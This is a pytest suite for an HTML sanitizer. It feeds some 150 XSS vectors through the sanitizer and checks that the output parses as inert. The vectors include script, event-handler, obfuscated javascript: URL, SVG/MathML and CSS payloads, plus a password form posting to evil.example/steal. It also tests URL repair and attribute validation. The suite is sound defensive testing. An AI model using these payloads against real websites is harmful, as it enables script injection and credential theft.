"""The sanitizer against the well-known XSS vector families, checked by parsing its output the
way a browser would (html5lib), never by looking for substrings."""

from __future__ import annotations

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from campplanet import attrvalues
from campplanet.sanitize import (
    IFRAME_SANDBOX,
    html_to_text,
    plain_title,
    sanitize_html,
    strip_invalid_xml_chars,
    summarize,
    too_deep,
)
from planetkit import cpu_seconds
from sitekit import assert_inert, problems

BASE = "https://blog.example.org/2024/05/post.html"


def test_the_checker_itself_catches_what_it_must() -> None:
    """The checker must be able to fail, or every test below proves nothing."""
    assert problems("<script>x</script>")
    assert problems('<img src=x onerror="alert(1)">')
    assert problems('<a href=" java&#x09;script:alert(1)" rel="nofollow ugc noopener">x</a>')
    assert problems('<img srcset="a.png 1x, data:image/svg+xml,x 2x">')
    assert problems('<svg><a xlink:href="javascript:alert(1)">x</a></svg>')
    assert problems('<p style="position:fixed">x</p>')
    assert problems(f'<iframe src="https://evil.example/" sandbox="{IFRAME_SANDBOX}"></iframe>')
    assert problems('<iframe src="https://www.youtube.com/embed/x"></iframe>')
    assert problems('<a href="https://x.org/">no rel</a>')
    assert problems("<math><mi>x</mi></math>")
    assert not problems('<p>ok <a href="https://x.org/" rel="nofollow ugc noopener">x</a></p>')


# --- XSS vector battery (OWASP XSS Filter Evasion Cheat Sheet families) -----------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script/xss src=https://xss.example/xss.js></script>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<script>/*",
    "<!--<script>alert(1)//--><script>alert(2)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<div><script>alert(1)</script",
    "<p>text</p><script\n>alert(1)</script\n>",
]
EVENT_HANDLERS = [
    "<IMG SRC=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<BODY ONLOAD=alert("XSS")>',
    "<div onmouseover=alert(1)>hover</div>",
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "<p onpointerenter=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<img """ onerror=alert(1)>',
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    '<img src=x title="a" onerror="alert(1)"title=b>',
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><td onmouseover=alert(1)>x</td></table>",
]
URL_VECTORS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#14;  javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://ok.example/a.png"'
    ' srcset="javascript:alert(1) 1x, https://ok.example/b.png 2x">',
    '<img srcset="data:image/svg+xml,<svg/onload=alert(1)> 2x">',
    '<picture><source srcset="javascript:alert(1)"><img src="a.png"></picture>',
    '<video poster="javascript:alert(1)" src="vbscript:x"></video>',
    '<video><source src="data:video/mp4,xx"></video>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="vbscript:x">q</q>',
    '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    '<a href="https://ok.example/" ping="javascript:alert(1)">x</a>',
    "<INPUT TYPE=IMAGE SRC=javascript:alert(1)>",
    '<BGSOUND SRC="javascript:alert(1)">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1)">',
    '<a href="http://%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    '<a href="  &#x20;  javascript:alert(1)">x</a>',
]
SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style>@import url(https://xss.example/x.css)</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror=alert(1) src=1>">',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
]
STYLE_VECTORS = [
    "<style>@import 'https://xss.example/xss.css';</style>",
    "<STYLE>BODY{-moz-binding:url(https://xss.example/xss.xml#xss)}</STYLE>",
    '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
    '<DIV STYLE="width: expression(alert(1));">x</DIV>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</p>',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
    '<span style="behavior: url(xss.htc);">x</span>',
    '<STYLE TYPE="text/javascript">alert(1);</STYLE>',
    '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
    '<p class="admin-banner" id="login">spoof</p>',
]
STRUCTURE_VECTORS = [
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh"'
    ' CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<applet code="x.class"></applet>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<form action="https://evil.example/steal"><input name=password type=password>'
    "<button formaction=javascript:alert(1)>go</button></form>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/phish"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    '<iframe src="https://evil.example@www.youtube.com/"></iframe>',
    '<iframe src="https://evil.example\\@www.youtube.com/"></iframe>',
    '<iframe src="https://www.youtube.com:8080/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" sandbox="allow-top-navigation"'
    ' srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" title="a>b"></iframe>'
    '<p>" onload="alert(1)" x="</p>',
    '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
    "<iframe src=https://evil.example/ <script>alert(1)</script>",
    '<portal src="https://evil.example/"></portal>',
    '<a href="https://ok.example/" target="_top">x</a>',
]
BROKEN_MARKUP = [
    '<a href="https://ok.example/" title="x"onmouseover="alert(1)">x</a>',
    "<a href='https://ok.example/' title='\"><script>alert(1)</script>'>x</a>",
    '<img src="x" alt=""><script>alert(1)</script>">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<a href="https://ok.example/"<img src=x onerror=alert(1)>>x</a>',
    "<p>unclosed <b>bold <i>italic",
    "<div><p></div></p><script>alert(1)</script>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<select><option><script>alert(1)</script></option></select>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "<!-- --!><script>alert(1)</script> -->",
    "<title><img src=x onerror=alert(1)></title>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><script>alert(1)</script>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "<img src=\"x\" alt='\x00' onerror=alert(1)>",
]
ALL_VECTORS = (
    SCRIPT_TAGS + EVENT_HANDLERS + URL_VECTORS + SVG_MATHML + STYLE_VECTORS
    + STRUCTURE_VECTORS + BROKEN_MARKUP
)  # fmt: skip


@pytest.mark.parametrize("vector", ALL_VECTORS)
@pytest.mark.parametrize("base", [BASE, None])
def test_xss_vector_comes_out_inert(vector: str, base: str | None) -> None:
    out = sanitize_html(vector, base)
    assert_inert(out)
    assert_inert(sanitize_html(out, base))
    # Whatever is left of it is still usable HTML once more through the sanitizer.
    assert sanitize_html(out, base) == out or problems(sanitize_html(out, base)) == []


@pytest.mark.parametrize("vector", ALL_VECTORS)
def test_xss_vector_inside_ordinary_post(vector: str) -> None:
    post = f"<p>Before the talk</p>{vector}<p>After <a href='/x'>the talk</a></p>"
    out = sanitize_html(post, BASE)
    assert_inert(out)
    assert "Before the talk" in html_to_text(out)


def test_vector_count_per_family() -> None:
    """The battery keeps its size: many cases per family."""
    families = [SCRIPT_TAGS, EVENT_HANDLERS, URL_VECTORS, SVG_MATHML, STYLE_VECTORS]
    assert all(len(f) >= 10 for f in families)
    assert len(ALL_VECTORS) >= 150


# --- what survives, and how ------------------------------------------------------------------


def _tree(fragment: str):
    return html5lib.parseFragment(fragment, treebuilder="etree", namespaceHTMLElements=False)


def _elements(fragment: str, tag: str) -> list:
    return [e for e in _tree(fragment).iter() if e.tag == tag]


def test_ordinary_markup_survives() -> None:
    src = (
        "<h2>Notes</h2><p>Some <strong>bold</strong>, <em>em</em> and <code>x = 1</code>.</p>"
        "<ul><li>one</li><li>two</li></ul><blockquote>quote</blockquote>"
        "<table><tr><th>a</th><td>b</td></tr></table><pre>pre\n  text</pre>"
        "<figure><img src='/a.png' alt='A'><figcaption>cap</figcaption></figure>"
    )
    out = sanitize_html(src, BASE)
    for tag in ("h2", "strong", "em", "code", "ul", "li", "blockquote", "table", "pre", "figure"):
        assert _elements(out, tag), tag
    assert "pre\n  text" in out


def test_links_get_rel_and_absolute_urls() -> None:
    out = sanitize_html(
        '<a href="../other.html#frag">o</a> <a href="/root">r</a> <a href="//cdn.example/x">c</a>'
        ' <a href="mailto:a@example.org">m</a> <a href="?page=2">q</a>',
        BASE,
    )
    hrefs = [a.attrib["href"] for a in _elements(out, "a")]
    assert hrefs == [
        "https://blog.example.org/2024/other.html#frag",
        "https://blog.example.org/root",
        "https://cdn.example/x",
        "mailto:a@example.org",
        "https://blog.example.org/2024/05/post.html?page=2",
    ]
    assert {a.attrib["rel"] for a in _elements(out, "a")} == {"nofollow ugc noopener"}


def test_existing_rel_is_replaced() -> None:
    out = sanitize_html('<a href="https://x.example/" rel="opener">x</a>', BASE)
    assert _elements(out, "a")[0].attrib["rel"] == "nofollow ugc noopener"


def test_images_lazy_keep_size_and_absolute_srcset() -> None:
    out = sanitize_html(
        '<img src="img/a.png" width="640" height="480" alt="A" loading="eager" '
        'srcset="img/a-320.png 320w, /img/a-640.png 640w , https://cdn.example/a.png 2x">',
        BASE,
    )
    (img,) = _elements(out, "img")
    assert img.attrib["src"] == "https://blog.example.org/2024/05/img/a.png"
    assert img.attrib["loading"] == "lazy"
    assert (img.attrib["width"], img.attrib["height"], img.attrib["alt"]) == ("640", "480", "A")
    # A srcset is all widths or all densities: the density candidate goes.
    assert img.attrib["srcset"] == (
        "https://blog.example.org/2024/05/img/a-320.png 320w, "
        "https://blog.example.org/img/a-640.png 640w"
    )


def test_video_poster_and_sources_absolute() -> None:
    out = sanitize_html(
        '<video poster="p.jpg" controls><source src="v.mp4" type="video/mp4"></video>'
        '<picture><source srcset="w.webp 1x"><img src="w.png"></picture>',
        BASE,
    )
    assert _elements(out, "video")[0].attrib["poster"] == "https://blog.example.org/2024/05/p.jpg"
    sources = _elements(out, "source")
    assert sources[0].attrib["src"] == "https://blog.example.org/2024/05/v.mp4"
    assert sources[1].attrib["srcset"] == "https://blog.example.org/2024/05/w.webp 1x"


def test_relative_urls_stay_relative_without_base() -> None:
    out = sanitize_html('<a href="/x">x</a><img src="y.png">', None)
    assert _elements(out, "a")[0].attrib["href"] == "/x"
    assert _elements(out, "img")[0].attrib["src"] == "y.png"


def test_allowed_iframe_is_sandboxed_and_lazy() -> None:
    out = sanitize_html(
        '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc?rel=0&amp;x=1"'
        ' frameborder="0" allow="autoplay" allowfullscreen style="border:0">fallback</iframe>',
        BASE,
    )
    (iframe,) = _elements(out, "iframe")
    assert iframe.attrib["src"] == "https://www.youtube-nocookie.com/embed/abc?rel=0&x=1"
    assert iframe.attrib["sandbox"] == IFRAME_SANDBOX
    assert iframe.attrib["loading"] == "lazy"
    assert (iframe.attrib["width"], iframe.attrib["height"]) == ("560", "315")
    assert "style" not in iframe.attrib and "allow" not in iframe.attrib
    assert "fallback" not in out


def test_protocol_relative_vimeo_iframe_resolves_to_https() -> None:
    out = sanitize_html('<iframe src="//player.vimeo.com/video/1"></iframe>', BASE)
    assert _elements(out, "iframe")[0].attrib["src"] == "https://player.vimeo.com/video/1"


def test_other_iframe_becomes_plain_link() -> None:
    out = sanitize_html('<p><iframe src="/embed/map?a=1&amp;b=2">x</iframe></p>', BASE)
    assert not _elements(out, "iframe")
    (a,) = _elements(out, "a")
    assert a.attrib["href"] == "https://blog.example.org/embed/map?a=1&b=2"
    assert a.attrib["rel"] == "nofollow ugc noopener"
    assert a.text == "https://blog.example.org/embed/map?a=1&b=2"


def test_iframe_hosts_are_configurable() -> None:
    src = '<iframe src="https://www.youtube.com/embed/x"></iframe>'
    assert not _elements(sanitize_html(src, BASE, iframe_hosts=("example.tv",)), "iframe")
    out = sanitize_html(
        '<iframe src="https://EXAMPLE.tv/e/1"></iframe>', BASE, iframe_hosts=("example.tv",)
    )
    assert _elements(out, "iframe")[0].attrib["src"] == "https://EXAMPLE.tv/e/1"
    assert_inert(out, iframe_hosts=("example.tv",))


def test_comments_and_cdata_do_not_survive() -> None:
    out = sanitize_html("<p>a<!-- secret --></p>", BASE)
    assert "secret" not in out


def test_invalid_xml_characters_removed() -> None:
    out = sanitize_html("<p>a\x00b\x06c\x1fd\ufffee\uffff</p>", BASE)
    assert html_to_text(out) == "abcde"


def test_empty_input() -> None:
    assert sanitize_html("", BASE) == ""
    assert html_to_text("") == ""
    assert summarize("") == ""
    assert plain_title("") == ""


# --- plain text helpers -------------------------------------------------------------------


def test_html_to_text_separates_blocks_and_decodes_entities() -> None:
    text = html_to_text(
        "<p>One&nbsp;&amp; two</p><p>three<br>four</p><ul><li>a</li><li>b</li></ul>"
        "<script>hidden()</script><style>p{}</style>"
    )
    assert text == "One & two three four a b"


def test_summarize_cuts_at_word_count_with_ellipsis() -> None:
    words = " ".join(f"w{i}" for i in range(100))
    short = summarize(f"<p>{words}</p>", 60)
    assert short.endswith("…")
    assert short[:-1].split(" ") == [f"w{i}" for i in range(60)]
    assert summarize("<p>just a few words</p>") == "just a few words"
    assert summarize("<p>end, with comma, here</p>", 2) == "end, with…"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Q&amp;A", "Q&A"),
        ("Q&amp;amp;A", "Q&A"),
        ("AT&T &#8211; news", "AT&T – news"),
        ("<b>Bold</b> move", "Bold move"),
        ("&lt;b&gt;Escaped&lt;/b&gt; tags", "<b>Escaped</b> tags"),
        ("  lots\n\tof   space  ", "lots of space"),
        ("bell\x07 and \x00nul", "bell and nul"),
        ("Caf&eacute; &#x2603;", "Café ☃"),
        ("<script>alert(1)</script>Title", "Title"),
    ],
)
def test_plain_title(raw: str, expected: str) -> None:
    assert plain_title(raw) == expected


def test_plain_title_of_plain_text_keeps_angle_brackets() -> None:
    assert plain_title("Use <div> wisely", is_html=False) == "Use <div> wisely"


def test_strip_invalid_xml_chars() -> None:
    allowed = "\t\n\r a\u00e9\u0085\ud7ff\ue000\ufffd\U0001f600\U0010ffff"
    assert strip_invalid_xml_chars(allowed) == allowed
    forbidden = "".join(chr(c) for c in range(0x20) if c not in (9, 10, 13))
    forbidden += "\ud800\udfff\ufffe\uffff"
    assert strip_invalid_xml_chars(f"a{forbidden}b") == "ab"


# --- properties -------------------------------------------------------------------------------

PIECES = st.sampled_from(
    [
        "<", ">", "/", "=", '"', "'", "`", " ", "\t", "\n", "\x00", "&", "&#", ";", "x", "1",
        "<script>", "</script>", "<img", "<a", "<iframe", "</iframe>", "<svg", "<math", "<style>",
        "<!--", "-->", "<![CDATA[", "]]>", "<p>", "</p>", "<table>", "<select>", "<template>",
        "<noscript>", "<textarea>", "<title>", "<form>", "<base", "<meta", "<object", "<embed",
        " src=", " href=", " srcset=", " poster=", " style=", " onerror=", " onload=", " on",
        " srcdoc=", " xlink:href=", "javascript:", "java\tscript:", "&#106;avascript:",
        "vbscript:", "data:text/html,", "alert(1)", "https://www.youtube.com/embed/v",
        "https://evil.example/", "//player.vimeo.com/v", "/rel", " 1x,", " 2x",
        "&lt;", "&gt;", "&quot;", "&amp;", "\ud800", "\ufffe", "é", "\u2028",
    ]
)  # fmt: skip
HTMLISH = st.lists(PIECES | st.text(max_size=3), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(HTMLISH, st.sampled_from([BASE, None, "https://x.example"]))
def test_sanitize_never_raises_and_output_is_inert(fragment: str, base: str | None) -> None:
    once = sanitize_html(fragment, base)
    assert_inert(once)
    twice = sanitize_html(once, base)
    assert_inert(twice)
    assert strip_invalid_xml_chars(twice) == twice


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_text_helpers_never_raise_and_give_clean_text(text: str) -> None:
    for out in (html_to_text(text), summarize(text), plain_title(text)):
        assert strip_invalid_xml_chars(out) == out
        assert out == out.strip()


# --- cost: nesting that would take html5ever quadratic time -----------------------------------


@pytest.mark.parametrize("unit", ["<div>", "<ul>", "<blockquote>", "<section>", "<b><div>"])
def test_deep_nesting_is_flattened_quickly(unit: str) -> None:
    fragment = unit * 100_000 + "<script>alert(1)</script>deep &amp; text"
    assert too_deep(fragment)
    with cpu_seconds(5):
        out = sanitize_html(fragment, BASE)
        text = html_to_text(fragment)
        title = plain_title(fragment)
    assert_inert(out)
    assert out == "<p>alert(1) deep &amp; text</p>"
    assert text == title == "alert(1) deep & text"


def test_ordinary_nesting_and_many_paragraphs_keep_their_markup() -> None:
    nested = "<div>" * 100 + "<p>deep</p>" + "</div>" * 100
    paragraphs = "<p>para" * 2000 + "<ul>" + "<li>item" * 2000 + "</ul>"
    for fragment in (nested, paragraphs):
        assert not too_deep(fragment)
    assert "<div><p>deep</p></div>" in sanitize_html(nested, BASE)
    out = sanitize_html(paragraphs, BASE)
    assert out.count("<p>") == 2000 and out.count("<li>") == 2000


def test_unclosed_angle_brackets_do_not_cost_quadratic_time() -> None:
    outputs = []
    with cpu_seconds(10):
        for fragment in ("<" * 300_000, "<a href='" * 100_000, "<div " * 100_000):
            outputs.append(sanitize_html(fragment, BASE))
            html_to_text(fragment)
    for out in outputs:
        assert_inert(out[:20_000])  # html5lib is slow; the output repeats itself


# --- attribute values the page can carry: repaired, or dropped -------------------------------

VALID_ATTRIBUTES = [
    # dir: ltr, rtl or auto only (bdo needs ltr or rtl)
    ('<p dir="">x</p>', "<p>x</p>"),
    ('<p dir="RTL">x</p>', '<p dir="rtl">x</p>'),
    ('<p dir="sideways">x</p>', "<p>x</p>"),
    ('<bdo dir="auto">x</bdo>', "<bdo>x</bdo>"),
    # language tags: registered subtags only, "_" read as "-", cut before variants
    ('<span lang="en_GB">x</span>', '<span lang="en-GB">x</span>'),
    ('<span lang="de-DE-1996">x</span>', '<span lang="de-DE">x</span>'),
    ('<span lang="zh-Hant-TW">x</span>', '<span lang="zh-Hant-TW">x</span>'),
    ('<span lang="ltr">x</span>', "<span>x</span>"),
    ('<span lang="">x</span>', '<span lang="">x</span>'),
    (
        '<a href="/x" hreflang="">x</a>',
        '<a href="https://blog.example.org/x" rel="nofollow ugc noopener">x</a>',
    ),
    # URLs: credentials go, forbidden characters are escaped, impossible hosts and ports go
    (
        '<a href="https://user:pass@h.example/x">x</a>',
        '<a href="https://h.example/x" rel="nofollow ugc noopener">x</a>',
    ),
    (
        '<img src="https://user:pass@h.example/a.png" alt="a">',
        '<img src="https://h.example/a.png" alt="a" loading="lazy">',
    ),
    (
        '<a href="https://h.example/a b[1]|x%zz#f#g">x</a>',
        '<a href="https://h.example/a%20b%5B1%5D%7Cx%25zz#f%23g" rel="nofollow ugc noopener">x</a>',
    ),
    ('<a href="http://h..example/">x</a>', '<a rel="nofollow ugc noopener">x</a>'),
    ('<a href="http://h.example:99999/">x</a>', '<a rel="nofollow ugc noopener">x</a>'),
    ('<a href="http://1.2.3.256/">x</a>', '<a rel="nofollow ugc noopener">x</a>'),
    ('<a href="http://xn--zz.example/">x</a>', '<a rel="nofollow ugc noopener">x</a>'),
    (
        '<a href="\\\\evil.example\\x">x</a>',  # browsers read \ as / in http(s) URLs
        '<a href="https://evil.example/x" rel="nofollow ugc noopener">x</a>',
    ),
    (
        '<a href="mailto:a b@c.example">x</a>',
        '<a href="mailto:a%20b@c.example" rel="nofollow ugc noopener">x</a>',
    ),
    ('<img src="" alt="a">', '<img loading="lazy" alt="a">'),
    (
        '<video src="v.mp4" poster=" " controls="controls" preload="bad"></video>',
        '<video src="https://blog.example.org/2024/05/v.mp4" controls=""></video>',
    ),
    # numbers and keywords
    (
        '<table><tr><td colspan="0" rowspan="x" headers="h1">a</td>'
        '<th scope="Col" colspan="2">b</th></tr></table>',
        '<table><tbody><tr><td>a</td><th scope="col" colspan="2">b</th></tr></tbody></table>',
    ),
    ('<ol start="+3"><li>a</li></ol>', "<ol><li>a</li></ol>"),
    ('<ol start=" -2 "><li>a</li></ol>', '<ol start="-2"><li>a</li></ol>'),
    (
        '<video src="v.mp4"><track src="t.vtt" kind="Captions" srclang="english" label=""></video>',
        '<video src="https://blog.example.org/2024/05/v.mp4">'
        '<track src="https://blog.example.org/2024/05/t.vtt" kind="captions"></video>',
    ),
    # dates: time takes any date or time string, del and ins a date or a date and time
    ('<time datetime="2024-02-30">x</time>', "<time>x</time>"),
    (
        '<time datetime=" 2024-02-29T10:00:00Z ">x</time>',
        '<time datetime="2024-02-29T10:00:00Z">x</time>',
    ),
    ('<time datetime="PT2H30M">x</time>', '<time datetime="PT2H30M">x</time>'),
    ('<del datetime="2024-01-02T10:00">x</del>', "<del>x</del>"),
    ('<ins datetime="2024-01-02">x</ins>', '<ins datetime="2024-01-02">x</ins>'),
    ('<data value="7">seven</data>', '<data value="7">seven</data>'),
    # MIME types, media queries, image sizes and candidates
    (
        '<picture><source srcset="a.webp" type=" image/webp " media="bogus">'
        '<img src="a.png" alt=""></picture>',
        '<picture><source srcset="https://blog.example.org/2024/05/a.webp" type="image/webp">'
        '<img src="https://blog.example.org/2024/05/a.png" alt="" loading="lazy"></picture>',
    ),
    (
        '<img src="a.png" srcset="a1.png 1x, a2.png 1.0x, a3.png 2X, a4.png 0x, a5.png" alt="">',
        '<img src="https://blog.example.org/2024/05/a.png"'
        ' srcset="https://blog.example.org/2024/05/a1.png 1x" alt="" loading="lazy">',
    ),
    (
        '<img src="a.png" sizes="100PX" srcset="b.png 100w" alt="">',
        '<img src="https://blog.example.org/2024/05/a.png" loading="lazy"'
        ' srcset="https://blog.example.org/2024/05/b.png 100w" alt="">',
    ),
    (  # WordPress writes "auto" first: valid, as every image is lazy-loaded
        '<img src="a.png" srcset="b.png 100w" sizes="auto, (max-width: 600px) 100vw, 600px">',
        '<img src="https://blog.example.org/2024/05/a.png"'
        ' srcset="https://blog.example.org/2024/05/b.png 100w"'
        ' sizes="auto, (max-width: 600px) 100vw, 600px" loading="lazy">',
    ),
    (
        '<img src="a.png" srcset="b,1.png 1x, c.png 2x," alt="">',
        '<img src="https://blog.example.org/2024/05/a.png" srcset="https://blog.example.org'
        '/2024/05/b,1.png 1x, https://blog.example.org/2024/05/c.png 2x" alt="" loading="lazy">',
    ),
    # elements that only carry presentation, or are not HTML any more: content kept
    (
        '<table><colgroup><col span="2"></colgroup><tr><td>a</td></tr></table>',
        "<table><tbody><tr><td>a</td></tr></tbody></table>",
    ),
    ("<ruby>a<rtc>b</rtc></ruby>", "<ruby>ab</ruby>"),
]


@pytest.mark.parametrize(("source", "expected"), VALID_ATTRIBUTES)
def test_attribute_values_are_repaired_or_dropped(source: str, expected: str) -> None:
    out = sanitize_html(source, BASE)
    assert out == expected
    assert_inert(out)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        " \x01javascript:alert(1)",
        "\\\\javascript:alert(1)",
        "https://user:pass@www.youtube.com@evil.example/",
        "data:text/html,x",
    ],
)
def test_url_repair_never_lets_a_bad_scheme_through(url: str) -> None:
    for base in (BASE, None):
        out = sanitize_html(f'<a href="{url}">x</a><img src="{url}" alt="">', base)
        assert_inert(out)
        assert "@" not in out


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2024-02-29", "2024-02-29"),
        ("2023-02-29", None),
        ("02-29", "02-29"),
        ("2024-13", None),
        ("2020-W53", "2020-W53"),
        ("2021-W53", None),
        ("10:00:00.123", "10:00:00.123"),
        ("10:00:00.1234", None),
        ("24:00", None),
        ("2024-01-02 10:00+0530", "2024-01-02 10:00+0530"),
        ("2024-01-02T10:00-00:00", None),
        ("2024-01-02T10:00+15:00", None),
        ("P1DT2H", "P1DT2H"),
        ("P1Y", None),
        ("1h 30m", "1h 30m"),
        ("1h 1h", None),
        ("0999", None),  # "year may be mistyped"
        ("yesterday", None),
        ("", None),
    ],
)
def test_time_values(value: str, expected: str | None) -> None:
    assert attrvalues.time_datetime(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("en", "en"),
        ("EN-us", "EN-us"),
        ("haw", "haw"),
        ("sr-Latn-RS", "sr-Latn-RS"),
        ("en-US-u-ca-buddhist", "en-US"),
        ("pt_BR", "pt-BR"),
        ("en-123", "en"),
        ("iw", None),  # deprecated for "he"
        ("x-klingon", None),
        ("english", None),
        ("", ""),
    ],
)
def test_language_tags(value: str, expected: str | None) -> None:
    assert attrvalues.language_tag(value) == expected
